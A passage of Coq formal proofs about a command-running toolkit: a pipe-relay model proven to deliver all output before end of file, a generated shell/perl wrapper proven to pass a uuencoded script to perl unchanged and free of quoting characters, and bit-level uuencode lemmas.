    + rest H3 H4 H5 H6.
  - case_eq (copy_o_done s && copy_e_done s); intros Ec; [|constructor; assumption].
    apply andb_true_iff in Ec as [Ec1 Ec2].
    constructor.
    + rest H3 H4 H5 H6.
    + rest H3 H4 H5 H6.
    + rest H3 H4 H5 H6.
    + rest H3 H4 H5 H6.
    + rest H3 H4 H5 H6.
    + rest H3 H4 H5 H6.
Qed.

Lemma CInv_run o e sched : forall s, CInv o e s -> CInv o e (fold_left cnext sched s).
Proof. induction sched as [|st r IH]; intros s H; [exact H|]. cbn. apply IH, CInv_next, H. Qed.

(** For every output on either descriptor, every interleaving, every chunking,
    every pipe capacity: when the output stream reports end of file, the
    reader has been handed, per descriptor and in order, exactly what the
    command wrote. *)
Theorem all_relayed_before_eof o e sched :
  closed (crun o e sched) = true -> deliv_o (crun o e sched) = o /\ deliv_e (crun o e sched) = e.
Proof.
  intros Hc. destruct (CInv_run o e sched _ (CInv_init o e)) as [H1 H2 H3 H4 H5 H6].
  fold (crun o e sched) in *. destruct (H6 Hc) as [Co Ce].
  destruct (H4 Co) as [Po Hd]. destruct (H5 Ce) as [Pe _]. destruct (H3 Hd) as [Qo Qe].
  rewrite Po, Qo, !app_nil_r in H1. rewrite Pe, Qe, !app_nil_r in H2. split; assumption.
Qed.

(** What has been handed over is always a prefix of what was written (nothing invented, reordered or duplicated). *)
Theorem delivered_is_prefix o e sched :
  exists ro re, o = deliv_o (crun o e sched) ++ ro /\ e = deliv_e (crun o e sched) ++ re.
Proof.
  destruct (CInv_run o e sched _ (CInv_init o e)) as [H1 H2 _ _ _ _]. fold (crun o e sched) in *.
  eexists _, _. split; symmetry; eassumption.
Qed.

(** The repaired defect on the model: if the reaper closes the read ends as
    soon as the child has exited, output still in a pipe is lost although the
    stream ends normally. *)
Theorem truncation_refuted : exists o sched,
  let s := fold_left cnext [CloseStream] (waiter_closes (crun o [] sched)) in
  closed s = true /\ deliv_o s <> o.
Proof. exists [1; 2; 3], [ChildWrite FOut 3 3; ChildExit]. vm_compute. split; [reflexivity | discriminate]. Qed.
