(** C16: what perl receives from the generated wrapper is the cleaned script. *)
From CRS Require Import Lib.Bytes Lib.Utf8 Lib.Sort Lib.Split Lib.Chunks Model.UU Model.Perl
  Proofs.UUProofs Proofs.UUTotal.
Open Scope N_scope.

(** * Generic helpers *)
Lemma notin_b c l : existsb (N.eqb c) l = false -> ~ In c l.
Proof.
  intros H Hin. assert (existsb (N.eqb c) l = true); [|congruence].
  apply existsb_exists. exists c. split; [exact Hin | apply N.eqb_refl].
Qed.

Lemma forallb_Forall (f : N -> bool) l : forallb f l = true -> Forall (fun x => f x = true) l.
Proof. intros H. apply Forall_forall. apply forallb_forall. exact H. Qed.

Lemma after_sub_single c a r : ~ In c a -> after_sub [c] (a ++ c :: r) = Some r.
Proof.
  induction a as [|x a IH]; intros Hn.
  - cbn. rewrite N.eqb_refl. reflexivity.
  - cbn [app after_sub bprefix prefixb].
    assert ((c =? x) = false) as ->
      by (apply N.eqb_neq; intro; subst; apply Hn; left; reflexivity).
    cbn [andb]. apply IH. intro Hin. apply Hn. right. exact Hin.
Qed.

Lemma take_while_app_stop (f : N -> bool) a x r :
  Forall (fun c => f c = true) a -> f x = false -> take_while f (a ++ x :: r) = a.
Proof.
  induction 1 as [|y a Hy Ha IH]; intros Hx; cbn [app take_while].
  - rewrite Hx. reflexivity.
  - rewrite Hy, IH by exact Hx. reflexivity.
Qed.

Lemma replace_byte_single c d l :
  replace_byte c [d] l = map (fun x => if x =? c then d else x) l.
Proof.
  induction l as [|x l IH]; [reflexivity|]. cbn [replace_byte map].
  destruct (x =? c); cbn [app]; rewrite IH; reflexivity.
Qed.

Lemma frev_rev l : frev l = rev l.
Proof. unfold frev. rewrite rev_append_rev, app_nil_r. reflexivity. Qed.

(** * TrimSpace on text that starts and ends with printable ASCII *)
Definition plain (c : N) : Prop := 33 <= c <= 126.

Lemma ascii_space_plain c : plain c -> ascii_space c = false.
Proof.
  unfold plain, ascii_space. intros H.
  repeat match goal with |- context [c =? ?k] =>
    let E := fresh in assert ((c =? k) = false) as E by (apply N.eqb_neq; lia); rewrite E; clear E end.
  reflexivity.
Qed.

Lemma lead_space_plain c r : plain c -> lead_space (c :: r) = 0%nat.
Proof.
  intros H. unfold lead_space. rewrite (ascii_space_plain c H).
  assert (Hk : forall k, 128 <= k -> (k =? c) = false)
    by (intros k Hk; apply N.eqb_neq; unfold plain in H; lia).
  unfold space_seqs. cbn [find bprefix prefixb].
  rewrite !Hk by lia. cbn [andb]. reflexivity.
Qed.

Lemma lead_space_rev_plain c r : plain c -> lead_space_rev (c :: r) = 0%nat.
Proof.
  intros H. unfold lead_space_rev. rewrite (ascii_space_plain c H).
  assert (Hk : forall k, 128 <= k -> (k =? c) = false)
    by (intros k Hk; apply N.eqb_neq; unfold plain in H; lia).
  unfold space_seqs. cbn [find bprefix prefixb rev app].
  rewrite !Hk by lia. cbn [andb]. reflexivity.
Qed.

Lemma trim_left_plain c r : plain c -> trim_left (c :: r) = c :: r.
Proof.
  intros H. unfold trim_left. cbn [length trim_left_fuel]. rewrite lead_space_plain by exact H. reflexivity.
Qed.

Lemma trim_right_plain_nl m y : plain y -> trim_right (m ++ [y; 10]) = m ++ [y].
Proof.
  intros H. unfold trim_right. rewrite !frev_rev.
  rewrite rev_app_distr. cbn [rev app].
  rewrite app_length. cbn [length].
  replace (length m + 2)%nat with (S (S (length m))) by lia.
  cbn [trim_left_rev_fuel]. 
  change (lead_space_rev (10 :: y :: rev m)) with 1%nat. cbn [skipn].
  rewrite lead_space_rev_plain by exact H.
  cbn [rev]. rewrite rev_involutive. reflexivity.
Qed.

Lemma trim_space_plain c m y :
  plain c -> plain y -> trim_space (c :: m ++ [y; 10]) = c :: m ++ [y].
Proof.
  intros Hc Hy. unfold trim_space. rewrite trim_left_plain by exact Hc.
  change (c :: m ++ [y; 10]) with ((c :: m) ++ [y; 10]).
  rewrite trim_right_plain_nl by exact Hy. reflexivity.
Qed.

(** * Shape of the encoder's output *)
Definition uuc (c : N) : Prop := 33 <= c <= 96.

Lemma line_body_shape l : (0 < length l <= 45)%nat ->
  exists c m y, line_body l = c :: m ++ [y] /\ uuc c /\ uuc y /\ Forall uuc m.
Proof.
  intros H. pose proof (line_body_chars l H) as Hc. unfold line_body in *.
  inversion Hc as [|? ? H1 H2]; subst.
  assert (Hne : concat (map enc3 (chunks 3 l)) <> []).
  { destruct (chunks_spec 3 ltac:(lia) l) as [_ Hcat].
    destruct (chunks 3 l) as [|k ks]; [cbn in Hcat; subst l; cbn in H; lia|].
    cbn [map concat]. pose proof (enc3_length k) as Hk.
    destruct (enc3 k); [cbn in Hk; lia | discriminate]. }
  destruct (exists_last Hne) as (m & y & E). rewrite E in *.
  apply Forall_app in H2 as [Hm Hy]. inversion Hy; subst.
  eexists _, m, y. split; [reflexivity|]. split; [exact H1|]. split; assumption.
Qed.

(** Non-empty encoder output: first char, body, last char, newline. *)
Lemma enc_lines_shape (ls : list bytes) :
  ls <> [] -> Forall (fun l => (0 < length l <= 45)%nat) ls ->
  exists c m y, concat (map enc_line ls) = c :: m ++ [y; 10] /\ uuc c /\ uuc y /\
                Forall (fun x => x = 10 \/ uuc x) m.
Proof.
  induction ls as [|l ls IH]; intros Hne H; [congruence|].
  inversion H as [|? ? Hl Hls]; subst.
  destruct (line_body_shape l Hl) as (c & m & y & E & Hc & Hy & Hm).
  cbn [map concat]. rewrite enc_line_split, E.
  assert (Hm' : Forall (fun x => x = 10 \/ uuc x) m)
    by (eapply Forall_impl; [|exact Hm]; intros; right; assumption).
  destruct ls as [|l2 ls'].
  - cbn [map concat]. rewrite app_nil_r. exists c, m, y.
    split; [cbn [app]; rewrite <- app_assoc; reflexivity|].
    split; [assumption|]. split; assumption.
  - destruct (IH ltac:(discriminate) Hls) as (c2 & m2 & y2 & E2 & Hc2 & Hy2 & Hm2).
    rewrite E2. exists c, (m ++ y :: 10 :: c2 :: m2), y2.
    split; [cbn [app]; rewrite <- !app_assoc; cbn [app]; reflexivity|].
    split; [assumption|]. split; [assumption|].
    apply Forall_app. split; [exact Hm'|].
    constructor; [right; assumption|]. constructor; [left; reflexivity|].
    constructor; [right; assumption | assumption].
Qed.

Lemma encode_shape p : p <> [] ->
  exists c m y, encode p = c :: m ++ [y; 10] /\ uuc c /\ uuc y /\ Forall (fun x => x = 10 \/ uuc x) m.
Proof.
  intros Hp. unfold encode, lineLen.
  destruct (chunks_spec 45 ltac:(lia) p) as [Hcd Hcat].
  apply enc_lines_shape.
  - intro E. rewrite E in Hcat. cbn in Hcat. congruence.
  - apply (chunked_length_le 45 _ ltac:(lia) Hcd).
Qed.

Lemma uuc_plain c : uuc c -> plain c.
Proof. unfold uuc, plain. lia. Qed.

Lemma trim_encode p : p <> [] -> trim_space (encode p) ++ [10] = encode p.
Proof.
  intros Hp. destruct (encode_shape p Hp) as (c & m & y & E & Hc & Hy & _).
  rewrite E, trim_space_plain by (apply uuc_plain; assumption).
  cbn [app]. rewrite <- app_assoc. reflexivity.
Qed.

(** * The substitution is undone by y/sb/\47\134/ and leaves no dangerous character *)
Definition enc_char (x : N) : Prop := x = 10 \/ uuc x.

Lemma trim_encode_chars p : p <> [] -> Forall enc_char (trim_space (encode p)).
Proof.
  intros Hp. pose proof (encode_alphabet p) as Ha. rewrite <- (trim_encode p Hp) in Ha.
  apply Forall_app in Ha as [Ha _]. exact Ha.
Qed.

Lemma tr_subst l : Forall enc_char l -> tr_sb (subst_sb l) = l.
Proof.
  unfold subst_sb, tr_sb. rewrite !replace_byte_single, !map_map.
  induction 1 as [|x l Hx Hl IH]; [reflexivity|]. cbn [map]. rewrite IH. f_equal.
  unfold enc_char, uuc in Hx.
  destruct (x =? 39) eqn:E1.
  - apply N.eqb_eq in E1. subst. reflexivity.
  - destruct (x =? 92) eqn:E2.
    + apply N.eqb_eq in E2. subst. reflexivity.
    + assert ((x =? 115) = false) as -> by (apply N.eqb_neq; lia).
      assert ((x =? 98) = false) as -> by (apply N.eqb_neq; lia). reflexivity.
Qed.

(** Characters of the payload as embedded: never a quote, backslash or brace. *)
Definition safe_char (x : N) : Prop := x <> 39 /\ x <> 92 /\ x <> 123 /\ x <> 125.

Lemma subst_safe l : Forall enc_char l -> Forall safe_char (subst_sb l).
Proof.
  unfold subst_sb. rewrite !replace_byte_single, !map_map.
  induction 1 as [|x l Hx Hl IH]; [constructor|]. cbn [map]. constructor; [|exact IH].
  unfold enc_char, uuc in Hx. unfold safe_char.
  destruct (x =? 39) eqn:E1; cbn.
  - repeat split; discriminate.
  - destruct (x =? 92) eqn:E2.
    + repeat split; discriminate.
    + apply N.eqb_neq in E1, E2. repeat split; lia.
Qed.

(** * Reading the wrapper back *)
Definition wrap_A : bytes := txt "() {(
(exit $((0 != $#))) || set -- -e """" -- ""$@"";
PERL5OPT=-d PERL5DB=".
Definition wrap_B0 : bytes := txt "BEGIN{eval(unpack(u,".
Definition wrap_C : bytes := txt "=~y/sb/\47\134/r));die""Error: $@""if(""""ne$@);exit}".
Definition wrap_D : bytes := txt " perl ""$@""; )}
".
Lemma wrap_pre_split : wrap_pre = wrap_A ++ 39 :: wrap_B0 ++ txt "q{" ++ [96; 10].
Proof. reflexivity. Qed.
Lemma wrap_post_split : wrap_post = 10 :: 125 :: wrap_C ++ 39 :: wrap_D.
Proof. reflexivity. Qed.

Lemma q_brace_nobrace a rest : Forall (fun x => x <> 123 /\ x <> 125) a ->
  q_brace 0 (a ++ 125 :: rest) = Some a.
Proof.
  induction 1 as [|x a [H1 H2] Ha IH].
  - cbn. reflexivity.
  - cbn [app q_brace].
    assert ((x =? 123) = false) as -> by (apply N.eqb_neq; exact H1).
    assert ((x =? 125) = false) as -> by (apply N.eqb_neq; exact H2).
    rewrite IH. reflexivity.
Qed.

Lemma drop_step fuel l tail : ~ In 10 l ->
  drop_comment_lines_fuel (S fuel) (35 :: l ++ 10 :: tail) = drop_comment_lines_fuel fuel tail.
Proof.
  intros Hl. cbn [drop_comment_lines_fuel].
  replace (after_sub [10] (35 :: l ++ 10 :: tail)) with (Some tail); [reflexivity|].
  symmetry. apply (after_sub_single 10 (35 :: l) tail).
  intros [H|H]; [discriminate | exact (Hl H)].
Qed.

Lemma drop_stop fuel rest : hd 0 rest <> 35 -> drop_comment_lines_fuel fuel rest = rest.
Proof.
  intros H. destruct fuel; [reflexivity|]. cbn [drop_comment_lines_fuel].
  destruct rest as [|x r]; [reflexivity|]. cbn in H.
  destruct x as [|px]; [reflexivity|].
  repeat (destruct px as [px|px|]; try reflexivity). congruence.
Qed.

Lemma drop_comments_lead (ls : list bytes) rest : Forall (fun l => ~ In 10 l) ls ->
  hd 0 rest <> 35 -> forall fuel, (length ls <= fuel)%nat ->
  drop_comment_lines_fuel fuel (concat (map (fun l => 35 :: l ++ [10]) ls) ++ rest) = rest.
Proof.
  induction 1 as [|l ls Hl Hls IH]; intros Hrest fuel Hf.
  - cbn [map concat app]. apply drop_stop. exact Hrest.
  - destruct fuel as [|fuel]; [cbn in Hf; lia|].
    cbn [map concat]. rewrite <- !app_assoc. cbn [app]. rewrite <- app_assoc. cbn [app].
    rewrite drop_step by exact Hl. apply IH; [exact Hrest | cbn in Hf; lia].
Qed.

Lemma comment_lines_length (ls : list bytes) :
  Nat.le (length ls) (length (concat (map (fun l => 35 :: l ++ [10]) ls))).
Proof.
  induction ls as [|l ls IH]; [cbn; lia|]. cbn [map concat length]. rewrite app_length. cbn [length]. lia.
Qed.

Theorem recv_wrapper (lead_lines : list bytes) fname p :
  Forall (fun l => ~ In 10 l) lead_lines ->
  ~ In 39 fname -> hd 0 (fname ++ wrap_pre) <> 35 ->
  p <> [] -> wf_bytes p ->
  recv (concat (map (fun l => 35 :: l ++ [10]) lead_lines) ++ fname ++ wrap_pre ++ perl_uu p ++ wrap_post)
  = Some p.
Proof.
  intros Hlead Hq Hhd Hp Hwf. unfold recv, drop_comment_lines.
  rewrite drop_comments_lead; cycle 1.
  { exact Hlead. }
  { destruct fname; exact Hhd. }
  { rewrite app_length. pose proof (comment_lines_length lead_lines). unfold Nat.le in *. lia. }
  pose proof (trim_encode_chars p Hp) as Hchars.
  pose proof (subst_safe _ Hchars) as Hsafe. fold (perl_uu p) in Hsafe.
  (* the shell's single-quoted value *)
  assert (Hv : sh_sq_value (fname ++ wrap_pre ++ perl_uu p ++ wrap_post)
               = Some (wrap_B0 ++ txt "q{" ++ [96; 10] ++ perl_uu p ++ 10 :: 125 :: wrap_C)).
  { unfold sh_sq_value. rewrite wrap_pre_split, wrap_post_split.
    replace (fname ++ (wrap_A ++ 39 :: wrap_B0 ++ txt "q{" ++ [96; 10]) ++ perl_uu p ++ 10 :: 125 :: wrap_C ++ 39 :: wrap_D)
      with ((fname ++ wrap_A) ++ 39 :: ((wrap_B0 ++ txt "q{" ++ [96; 10] ++ perl_uu p ++ 10 :: 125 :: wrap_C) ++ 39 :: wrap_D))
      by (repeat rewrite <- app_assoc; cbn [app]; repeat rewrite <- app_assoc; reflexivity).
    rewrite after_sub_single.
    2:{ intros Hin. apply in_app_or in Hin as [Hin|Hin]; [exact (Hq Hin)|].
        revert Hin. apply notin_b. reflexivity. }
    assert (Hno : Forall (fun c => negb (c =? 39) = true)
                    (wrap_B0 ++ txt "q{" ++ [96; 10] ++ perl_uu p ++ 10 :: 125 :: wrap_C)).
    { apply Forall_app. split; [apply forallb_Forall; reflexivity|].
      apply Forall_app. split; [apply forallb_Forall; reflexivity|].
      apply Forall_app. split; [apply forallb_Forall; reflexivity|].
      apply Forall_app. split.
      - eapply Forall_impl; [|exact Hsafe]. intros a (Ha & _). apply negb_true_iff, N.eqb_neq. exact Ha.
      - apply (forallb_Forall (fun c => negb (c =? 39))). reflexivity. }
    assert (existsb (N.eqb 39)
              ((wrap_B0 ++ txt "q{" ++ [96; 10] ++ perl_uu p ++ 10 :: 125 :: wrap_C) ++ 39 :: wrap_D) = true) as ->.
    { apply existsb_exists. exists 39. split; [apply in_or_app; right; left; reflexivity | reflexivity]. }
    rewrite take_while_app_stop; [reflexivity | exact Hno | reflexivity]. }
  rewrite Hv.
  (* perl's q{...} *)
  assert (Hq2 : perl_q (wrap_B0 ++ txt "q{" ++ [96; 10] ++ perl_uu p ++ 10 :: 125 :: wrap_C)
                = Some ([96; 10] ++ perl_uu p ++ [10])).
  { unfold perl_q.
    replace (after_sub (txt "q{") (wrap_B0 ++ txt "q{" ++ [96; 10] ++ perl_uu p ++ 10 :: 125 :: wrap_C))
      with (Some ([96; 10] ++ perl_uu p ++ 10 :: 125 :: wrap_C)) by reflexivity.
    replace ([96; 10] ++ perl_uu p ++ 10 :: 125 :: wrap_C)
      with (([96; 10] ++ perl_uu p ++ [10]) ++ 125 :: wrap_C)
      by (cbn [app]; rewrite <- app_assoc; reflexivity).
    apply q_brace_nobrace.
    constructor; [split; discriminate|]. constructor; [split; discriminate|].
    apply Forall_app. split.
    - eapply Forall_impl; [|exact Hsafe]. intros a (_ & _ & Ha & Hb). split; assumption.
    - constructor; [split; discriminate | constructor]. }
  rewrite Hq2.
  (* y/sb/.../ and unpack("u") *)
  unfold tr_sb at 1. rewrite !map_app. fold (tr_sb (perl_uu p)).
  unfold perl_uu at 1. rewrite tr_subst by exact Hchars.
  cbn [map app N.eqb Pos.eqb].
  change (96 :: 10 :: trim_space (encode p) ++ [10]) with ([96] ++ 10 :: (trim_space (encode p) ++ [10])).
  rewrite trim_encode by exact Hp.
  unfold decode. rewrite split_on_app_sep by (intros [H|[]]; discriminate).
  cbn [dec_lines]. change (dec_line 0 [96]) with (Ok []).
  unfold encode, lineLen.
  destruct (chunks_spec 45 ltac:(lia) p) as [Hcd Hcat].
  rewrite dec_lines_enc.
  - cbn [app]. rewrite Hcat. reflexivity.
  - pose proof (chunked_length_le 45 _ ltac:(lia) Hcd) as Hl.
    pose proof (Forall_wf_chunks 45 p ltac:(lia) Hwf) as Hw.
    rewrite Forall_forall in *. intros l Hin. split; [apply Hl | apply Hw]; exact Hin.
Qed.

(** * From the wrapper lemma to FromPerl *)
Lemma Forall_take_while {A} (P : A -> Prop) f l : Forall P l -> Forall P (take_while f l).
Proof. induction 1 as [|x l Hx Hl IH]; cbn; [constructor|]. destruct (f x); [constructor; assumption | constructor]. Qed.
Lemma take_while_all {A} (f : A -> bool) l : Forall (fun x => f x = true) (take_while f l).
Proof. induction l as [|x l IH]; cbn; [constructor|]. destruct (f x) eqn:E; [constructor; assumption | constructor]. Qed.
Lemma Forall_drop_while {A} (P : A -> Prop) f l : Forall P l -> Forall P (drop_while f l).
Proof. induction 1 as [|x l Hx Hl IH]; cbn; [constructor|]. destruct (f x); [assumption | constructor; assumption]. Qed.

Lemma rejoin_concat ls : rejoin ls = concat (map (fun l => l ++ [10]) ls).
Proof.
  unfold rejoin. destruct ls as [|l ls]; [reflexivity|].
  revert l. induction ls as [|l2 ls IH]; intros l.
  - cbn. rewrite app_nil_r. reflexivity.
  - change (join_with 10 (l :: l2 :: ls)) with (l ++ 10 :: join_with 10 (l2 :: ls)).
    rewrite <- app_assoc. cbn [app]. rewrite IH. cbn [map concat]. rewrite <- !app_assoc. reflexivity.
Qed.

Lemma comment_lines_form (L : list bytes) :
  Forall (fun l => is_comment l = true /\ ~ In 10 l) L ->
  exists ls, Forall (fun l => ~ In 10 l) ls /\
             concat (map (fun l => l ++ [10]) L) = concat (map (fun l => 35 :: l ++ [10]) ls).
Proof.
  induction 1 as [|l L [Hc Hn] HL (ls & Hls & E)].
  - exists []. split; [constructor | reflexivity].
  - destruct l as [|x l']; [discriminate|]. cbn in Hc.
    assert (x = 35) as ->.
    { destruct x as [|px]; [discriminate|].
      repeat (destruct px as [px|px|]; try discriminate). reflexivity. }
    exists (l' :: ls). split.
    + constructor; [intro H; apply Hn; right; exact H | exact Hls].
    + cbn [map concat]. rewrite E. reflexivity.
Qed.

Lemma clean_perl_lead_form raw : exists ls, Forall (fun l => ~ In 10 l) ls /\
  fst (clean_perl raw) = concat (map (fun l => 35 :: l ++ [10]) ls).
Proof.
  unfold clean_perl. destruct raw as [|r0 raw]; [exists []; split; [constructor | reflexivity]|].
  cbn [fst]. rewrite rejoin_concat. apply comment_lines_form.
  apply Forall_drop_while.
  pose proof (split_on_pieces 10 (trim_space (r0 :: raw))) as Hp.
  pose proof (take_while_all is_comment (split_on 10 (trim_space (r0 :: raw)))) as Ha.
  pose proof (Forall_take_while _ is_comment _ Hp) as Hb.
  rewrite Forall_forall in *. intros l Hl. split; [apply Ha | apply Hb]; exact Hl.
Qed.

Lemma blank_lead_length ls : length (blank_lead ls) = length ls.
Proof. induction ls as [|l ls IH]; [reflexivity|]. cbn. destruct (is_comment l); cbn; [rewrite IH|]; reflexivity. Qed.

Lemma clean_perl_nonempty raw : raw <> [] -> snd (clean_perl raw) <> [].
Proof.
  intros H. unfold clean_perl. destruct raw as [|r0 raw]; [congruence|]. cbn [snd].
  unfold rejoin. pose proof (blank_lead_length (split_on 10 (trim_space (r0 :: raw)))) as Hl.
  pose proof (split_on_nonempty 10 (trim_space (r0 :: raw))) as Hne.
  destruct (blank_lead (split_on 10 (trim_space (r0 :: raw)))) as [|a b] eqn:E.
  - destruct (split_on 10 (trim_space (r0 :: raw))); [congruence | cbn in Hl; lia].
  - intro H2. apply app_eq_nil in H2 as [_ H2]. discriminate.
Qed.

(** Well-formedness (bytes < 256) is preserved by the cleaning. *)
Lemma Forall_skipn' {A} (P : A -> Prop) n l : Forall P l -> Forall P (skipn n l).
Proof. revert l; induction n as [|n IH]; intros l H; [exact H|]. destruct l; [constructor|]. inversion H; subst. apply IH. assumption. Qed.
Lemma Forall_trim_left_fuel P fuel l : Forall P l -> Forall P (trim_left_fuel fuel l).
Proof.
  revert l; induction fuel as [|f IH]; intros l H; [exact H|]. cbn [trim_left_fuel].
  destruct (lead_space l); [exact H|]. apply IH, Forall_skipn', H.
Qed.
Lemma Forall_trim_left_rev_fuel P fuel l : Forall P l -> Forall P (trim_left_rev_fuel fuel l).
Proof.
  revert l; induction fuel as [|f IH]; intros l H; [exact H|]. cbn [trim_left_rev_fuel].
  destruct (lead_space_rev l); [exact H|]. apply IH, Forall_skipn', H.
Qed.
Lemma Forall_trim_space (P : N -> Prop) l : Forall P l -> Forall P (trim_space l).
Proof.
  intros H. unfold trim_space, trim_right, trim_left. rewrite !frev_rev.
  apply Forall_rev, Forall_trim_left_rev_fuel, Forall_rev, Forall_trim_left_fuel, H.
Qed.
Lemma Forall_split_on (P : N -> Prop) sep l : Forall P l -> Forall (Forall P) (split_on sep l).
Proof.
  induction 1 as [|x l Hx Hl IH]; cbn [split_on]; [repeat constructor|].
  destruct (x =? sep); [constructor; [constructor | exact IH]|].
  destruct (split_on sep l) as [|h t]; [repeat constructor; assumption|].
  inversion IH; subst. constructor; [constructor; assumption | assumption].
Qed.
Lemma Forall_blank_lead (P : N -> Prop) ls : Forall (Forall P) ls -> Forall (Forall P) (blank_lead ls).
Proof.
  induction 1 as [|l ls Hl Hls IH]; cbn; [constructor|].
  destruct (is_comment l); [constructor; [constructor | exact IH] | constructor; assumption].
Qed.
Lemma Forall_rejoin (P : N -> Prop) ls : P 10 -> Forall (Forall P) ls -> Forall P (rejoin ls).
Proof.
  intros H10 H. rewrite rejoin_concat. apply Forall_concat. rewrite Forall_map.
  eapply Forall_impl; [|exact H]. intros l Hl. apply Forall_app. split; [exact Hl | repeat constructor; exact H10].
Qed.

Lemma clean_perl_wf raw : wf_bytes raw -> wf_bytes (snd (clean_perl raw)).
Proof.
  intros H. unfold clean_perl. destruct raw as [|r0 raw]; [constructor|]. cbn [snd].
  apply Forall_rejoin; [unfold wf_byte; lia|].
  apply Forall_blank_lead, Forall_split_on, Forall_trim_space, H.
Qed.

(** ** The main statement *)
Theorem from_perl_received name raw :
  raw <> [] -> wf_bytes raw ->
  ~ In 39 (func_name name) -> hd 0 (func_name name ++ wrap_pre) <> 35 ->
  recv (from_perl name raw) = Some (snd (clean_perl raw)).
Proof.
  intros Hne Hwf Hq Hhd. unfold from_perl. destruct raw as [|r0 raw]; [congruence|].
  destruct (clean_perl_lead_form (r0 :: raw)) as (ls & Hls & E).
  destruct (clean_perl (r0 :: raw)) as [lead perl] eqn:EC. cbn [fst snd] in *.
  rewrite E. apply recv_wrapper; try assumption.
  - replace perl with (snd (clean_perl (r0 :: raw))) by (rewrite EC; reflexivity).
    apply clean_perl_nonempty. discriminate.
  - replace perl with (snd (clean_perl (r0 :: raw))) by (rewrite EC; reflexivity).
    apply clean_perl_wf. exact Hwf.
Qed.

(** ** Shape of the cleaned text: line count preserved, exactly the leading
    comment run blanked. *)
Lemma blank_lead_nth ls : forall i,
  nth i (blank_lead ls) [] = if all_comment_upto ls i then [] else nth i ls [].
Proof.
  induction ls as [|l ls IH]; intros i.
  - destruct i; reflexivity.
  - cbn [blank_lead]. destruct (is_comment l) eqn:E.
    + destruct i as [|i]; cbn [nth all_comment_upto]; rewrite E; [reflexivity|]. cbn [andb]. apply IH.
    + destruct i as [|i]; cbn [nth all_comment_upto]; rewrite E; reflexivity.
Qed.

Lemma nth_map_seq {A} (f : nat -> A) n i d : (i < n)%nat -> nth i (map f (seq 0 n)) d = f i.
Proof.
  intros Hi. rewrite (nth_indep _ d (f 0%nat)) by (rewrite map_length, seq_length; exact Hi).
  rewrite map_nth, seq_nth by exact Hi. reflexivity.
Qed.

Lemma spec_lines_eq ls : spec_lines ls = blank_lead ls.
Proof.
  apply (nth_ext _ _ [] []).
  - unfold spec_lines. rewrite map_length, seq_length, blank_lead_length. reflexivity.
  - intros i Hi. unfold spec_lines in *. rewrite map_length, seq_length in Hi.
    rewrite nth_map_seq by exact Hi. symmetry. apply blank_lead_nth.
Qed.

Theorem clean_perl_spec raw : snd (clean_perl raw) = spec_text raw.
Proof.
  unfold clean_perl, spec_text. destruct raw as [|r0 raw]; [reflexivity|]. cbn [snd].
  rewrite spec_lines_eq. unfold rejoin.
  destruct (blank_lead (split_on 10 (trim_space (r0 :: raw)))) eqn:E; [|reflexivity].
  pose proof (blank_lead_length (split_on 10 (trim_space (r0 :: raw)))) as Hl. rewrite E in Hl.
  pose proof (split_on_nonempty 10 (trim_space (r0 :: raw))) as Hne.
  destruct (split_on 10 (trim_space (r0 :: raw))); [congruence | cbn in Hl; lia].
Qed.
