(** Bit-level facts about one uuencode group, proved by exhaustive sweeps over
    the finite domains each expression depends on (at most two bytes = 2^16
    cases), lifted with [all_below_spec].  The bounds are in the statements. *)
From CRS Require Import Lib.Bytes Model.UU.
Open Scope N_scope.

Definition m6 (v : N) : N := N.land v 63.
Definition uu_char' (w : N) : N := if w =? 0 then 96 else w + 32.

Lemma uu_char_eq x : uu_char x = uu_char' (m6 x).
Proof. reflexivity. Qed.

Lemma m6_lt x : m6 x < 64.
Proof.
  unfold m6. change 63 with (N.ones 6). rewrite N.land_ones.
  apply N.mod_lt. discriminate.
Qed.

Definition w6_check (w : N) : bool :=
  (sanit (uu_char' w) - 32 =? w) && (32 <=? sanit (uu_char' w)) && (sanit (uu_char' w) <=? 95)
  && (33 <=? uu_char' w) && (uu_char' w <=? 96).

Lemma w6_sweep : all_below 64 w6_check = true.
Proof. vm_compute. reflexivity. Qed.

Lemma w6_facts x :
  sanit (uu_char x) - 32 = m6 x /\ 32 <= sanit (uu_char x) <= 95 /\ 33 <= uu_char x <= 96.
Proof.
  rewrite uu_char_eq.
  pose proof (all_below_spec 64 w6_check w6_sweep (m6 x) (m6_lt x)) as H.
  unfold w6_check in H.
  repeat (apply andb_true_iff in H as [H ?]).
  repeat match goal with
         | H : (_ =? _) = true |- _ => apply N.eqb_eq in H
         | H : (_ <=? _) = true |- _ => apply N.leb_le in H
         end.
  repeat split; assumption.
Qed.

(** The pre-mask values of the four encoded characters. *)
Definition x0 (a : N) : N := N.shiftr a 2.
Definition x1 (a b : N) : N := N.lor (byte_shl a 4) (N.shiftr b 4).
Definition x2 (b d : N) : N := N.lor (byte_shl b 2) (N.shiftr d 6).
Definition x3 (d : N) : N := N.land d 63.

Definition all2 (f : N -> N -> bool) : bool :=
  all_below 256 (fun a => all_below 256 (fun b => f a b)).

Lemma all2_spec f : all2 f = true -> forall a b, a < 256 -> b < 256 -> f a b = true.
Proof.
  intros H a b Ha Hb. unfold all2 in H.
  pose proof (all_below_spec 256 _ H a Ha) as H1. cbv beta in H1.
  exact (all_below_spec 256 _ H1 b Hb).
Qed.

Definition s0_check (a b : N) : bool :=
  (byte_shl (m6 (x0 a)) 2 + N.shiftr (m6 (x1 a b)) 4) mod 256 =? a.
Definition s1a_check (a b : N) : bool := byte_shl (m6 (x1 a b)) 4 =? 16 * (b / 16).
Definition s1b_check (b d : N) : bool := N.shiftr (m6 (x2 b d)) 2 =? b mod 16.
Definition s1c_check (b _ : N) : bool := (16 * (b / 16) + b mod 16) mod 256 =? b.
Definition s2_check (b d : N) : bool := (byte_shl (m6 (x2 b d)) 6 + m6 (x3 d)) mod 256 =? d.

Lemma s0_sweep : all2 s0_check = true.  Proof. vm_compute. reflexivity. Qed.
Lemma s1a_sweep : all2 s1a_check = true. Proof. vm_compute. reflexivity. Qed.
Lemma s1b_sweep : all2 s1b_check = true. Proof. vm_compute. reflexivity. Qed.
Lemma s2_sweep : all2 s2_check = true.  Proof. vm_compute. reflexivity. Qed.

Lemma s0 a b : a < 256 -> b < 256 ->
  (byte_shl (m6 (x0 a)) 2 + N.shiftr (m6 (x1 a b)) 4) mod 256 = a.
Proof. intros Ha Hb. apply N.eqb_eq. exact (all2_spec _ s0_sweep a b Ha Hb). Qed.

Lemma s1 a b d : a < 256 -> b < 256 -> d < 256 ->
